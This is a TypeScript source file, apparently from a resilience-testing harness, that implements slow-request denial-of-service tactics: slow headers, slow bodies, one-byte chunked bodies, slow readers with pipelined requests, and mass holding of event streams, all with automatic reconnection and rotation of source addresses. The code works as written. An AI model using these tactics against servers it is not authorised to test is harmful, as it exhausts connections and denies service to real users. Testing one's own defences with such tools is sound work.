import { connect, type OnReadOpts, type Socket } from 'node:net';
import { formatRawHead, formatRawRequest } from './ask.ts';
import {
  type AttackerPlan,
  type AttackStarter,
  type AttackTacticOf,
  type AttackTally,
  OutcomeCounter,
  type RunningAttack,
} from './plan.ts';

/** New connections per tick. A higher rate would overflow the system's queue of new connections. */
const NEW_PER_TICK = 10;
const TICK_MS = 10;
const REOPEN_DELAY_MS = 5_000;
const FIRST_BYTES = 64;
const LOOK_MS = 1_000;

export interface HeldConnection {
  socket: Socket;
  number: number;
  count: (what: string) => void;
  onData: (text: string) => void;
}

export interface HeldConnectionsOptions {
  /** Called when a connection is open. @returns an action to repeat every `everyMs` */
  hold: (connection: HeldConnection) => () => void;
  everyMs: number;
  /** Pause in ms before a closed connection is reopened; default: REOPEN_DELAY_MS. */
  reopenDelayMs?: number;
  /** Number of bytes after which reading pauses until `socket.resume()`; default: no limit. */
  receiveBytes?: number;
}

/** Connections that stay open until the site closes them, and are then opened again. */
class HeldConnections implements RunningAttack {
  readonly #plan: AttackerPlan;
  readonly #options: HeldConnectionsOptions;
  readonly #counts = new OutcomeCounter();
  readonly #missing: number[];
  readonly #open = new Set<Socket>();
  readonly #timers = new Set<NodeJS.Timeout>();
  #ended = false;

  constructor(plan: AttackerPlan, options: HeldConnectionsOptions) {
    this.#plan = plan;
    this.#options = options;
    this.#missing = Array.from({ length: plan.connections }, (_, number) => number);
    this.#timers.add(
      setInterval(() => {
        for (const number of this.#missing.splice(0, NEW_PER_TICK)) this.#connect(number);
      }, TICK_MS),
    );
  }

  async end(): Promise<AttackTally> {
    this.#ended = true;
    for (const timer of this.#timers) clearTimeout(timer);
    this.#counts.add('held at the end', this.#open.size);
    for (const socket of this.#open) socket.destroy();
    return this.#counts.toTally();
  }

  #connect(number: number): void {
    const { host, port, sources } = this.#plan;
    const localAddress = sources[number % sources.length];
    const held: HeldConnection = {
      number,
      count: (what) => this.#counts.add(what),
      onData: () => undefined,
      socket: connect({
        host,
        port,
        ...(localAddress && { localAddress }),
        ...this.#reading((text) => received(text)),
      }),
    };
    const { socket } = held;
    let beginning = '';
    const received = (text: string) => {
      if (beginning.length < FIRST_BYTES) beginning += text;
      held.onData(text);
    };
    let opened = false;
    let timer: NodeJS.Timeout | undefined;
    socket.once('connect', () => {
      opened = true;
      this.#open.add(socket);
      this.#counts.add('opened');
      timer = setInterval(this.#options.hold(held), this.#options.everyMs);
      this.#timers.add(timer);
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      this.#open.delete(socket);
      if (timer) {
        clearInterval(timer);
        this.#timers.delete(timer);
      }
      if (this.#ended) return;
      this.#counts.add(opened ? `ended ${fateOf(beginning)}` : 'not let in');
      const again = setTimeout(() => {
        this.#timers.delete(again);
        this.#missing.push(number);
      }, this.#options.reopenDelayMs ?? REOPEN_DELAY_MS);
      this.#timers.add(again);
    });
    if (this.#options.receiveBytes === undefined) socket.setEncoding('latin1').on('data', received);
  }

  #reading(received: (text: string) => void): { onread?: OnReadOpts } {
    const { receiveBytes } = this.#options;
    if (receiveBytes === undefined) return {};
    return {
      onread: {
        buffer: Buffer.alloc(receiveBytes),
        callback: (length, buffer) => {
          received(Buffer.from(buffer.buffer, buffer.byteOffset, length).toString('latin1'));
          return false;
        },
      },
    };
  }
}

function fateOf(received: string): string {
  const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(received) ?? [];
  return status ? `after ${status}` : 'unanswered';
}

const nothing = () => undefined;

export const beginSlowHeaders: AttackStarter<'slow-headers'> = (plan, { everyMs }) => {
  const host = `${plan.host}:${plan.port}`;
  const habits: ((connection: HeldConnection) => () => void)[] = [
    () => nothing,
    ({ socket }) => {
      socket.write(formatRawRequest(host, { method: 'GET', path: '/-/health' }));
      return nothing;
    },
    ({ socket }) => {
      socket.write('GET / HT');
      return nothing;
    },
    ({ socket }) => {
      socket.write(formatRawHead(host, { method: 'GET', path: '/' }));
      let headers = 0;
      return () => socket.write(`x-header-${headers++}: of many\r\n`);
    },
  ];
  return new HeldConnections(plan, {
    everyMs,
    hold: (connection) => habits[connection.number % habits.length]?.(connection) ?? nothing,
  });
};

export const beginSlowBodies: AttackStarter<'slow-bodies'> = (plan, tactic) => {
  const { method, paths, type, announcedBytes, identities, everyMs } = tactic;
  const beginning = Buffer.alloc(tactic.beginningBytes, '{');
  return new HeldConnections(plan, {
    everyMs,
    hold: ({ socket, number }) => {
      const path = paths[number % paths.length] ?? '/';
      const headers = {
        ...identities[number % identities.length],
        'content-type': type,
        'content-length': String(announcedBytes),
      };
      socket.write(`${formatRawHead(`${plan.host}:${plan.port}`, { method, path, headers })}\r\n`);
      socket.write(beginning);
      return () => socket.write('{');
    },
  });
};

/** 20,000 chunks of one byte (120 KB), sent repeatedly while the connection is open. */
const TINY_CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(20_000));

export const beginTinyChunks: AttackStarter<'tiny-chunks'> = (plan, { paths }) =>
  new HeldConnections(plan, {
    everyMs: LOOK_MS,
    reopenDelayMs: 0,
    hold: ({ socket, number }) => {
      const path = paths[number % paths.length] ?? '/';
      const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
      socket.write(`${formatRawHead(`${plan.host}:${plan.port}`, { method: 'POST', path, headers })}\r\n`);
      const send = () => {
        while (!socket.destroyed && socket.write(TINY_CHUNKS));
      };
      socket.on('drain', send);
      send();
      return nothing;
    },
  });

const READ_BYTES = 64;

/** Each connection sends a further request every `everyMs`; connections with an even number then also read a few bytes. */
export const beginSlowReaders: AttackStarter<'slow-readers'> = (
  plan,
  { path, identity, pipelined, everyMs },
) => {
  const request = formatRawRequest(`${plan.host}:${plan.port}`, { method: 'GET', path, headers: identity });
  return new HeldConnections(plan, {
    everyMs,
    receiveBytes: READ_BYTES,
    hold: ({ socket, number }) => {
      socket.write(request.repeat(pipelined));
      return () => {
        socket.write(request);
        if (number % 2 === 0) socket.resume();
      };
    },
  });
};

const EVENT = /^data:/gm;
const STREAM_END = '\r\n0\r\n\r\n';
/** Retry-After of a refusal: seconds until the next attempt. */
const RETRY_AFTER = /^retry-after: (\d+)\r$/im;

type Identities = AttackTacticOf<'streams'>['identities'];

/** Holds event streams and counts their events: an open stream that gets no events would be useless to a customer. */
export const beginStreams: AttackStarter<'streams'> = (plan, { path, identities }) =>
  holdStreams(plan, streamRequests(plan, path, identities));

export const beginHiddenTabs: AttackStarter<'hidden-tabs'> = (plan, { path, readPath, identities }) => {
  const reads = identities.map((headers) =>
    formatRawRequest(`${plan.host}:${plan.port}`, { method: 'GET', path: readPath, headers }),
  );
  const opened = streamRequests(plan, path, identities);
  // Responses arrive in the order of the requests: first the response to the read, then the stream.
  return holdStreams(
    plan,
    opened.map((stream, index) => (reads[index] ?? '') + stream),
  );
};

function streamRequests({ host, port }: AttackerPlan, path: string, identities: Identities): string[] {
  return identities.map((identity) => {
    const headers = { ...identity, accept: 'text/event-stream' };
    return formatRawRequest(`${host}:${port}`, { method: 'GET', path, headers });
  });
}

/** Holds connections with an event stream. @param requests that open streams, assigned to the connections in turn */
function holdStreams(plan: AttackerPlan, requests: readonly string[]): HeldConnections {
  return new HeldConnections(plan, {
    everyMs: LOOK_MS,
    hold: (connection) => {
      const request = requests[connection.number % requests.length] ?? '';
      let hasEnded = false;
      let waitUntil = 0;
      connection.onData = (text) => {
        for (const _event of text.matchAll(EVENT)) connection.count('events');
        hasEnded ||= `\r\n${text}`.endsWith(STREAM_END);
        const seconds = RETRY_AFTER.exec(text)?.[1];
        if (seconds === undefined) return;
        connection.count('streams refused');
        hasEnded = true;
        waitUntil = Date.now() + Number(seconds) * 1000;
      };
      connection.socket.write(request);
      return () => {
        if (!hasEnded || Date.now() < waitUntil) return;
        hasEnded = false;
        connection.count('streams opened again');
        connection.socket.write(request);
      };
    },
  });
}
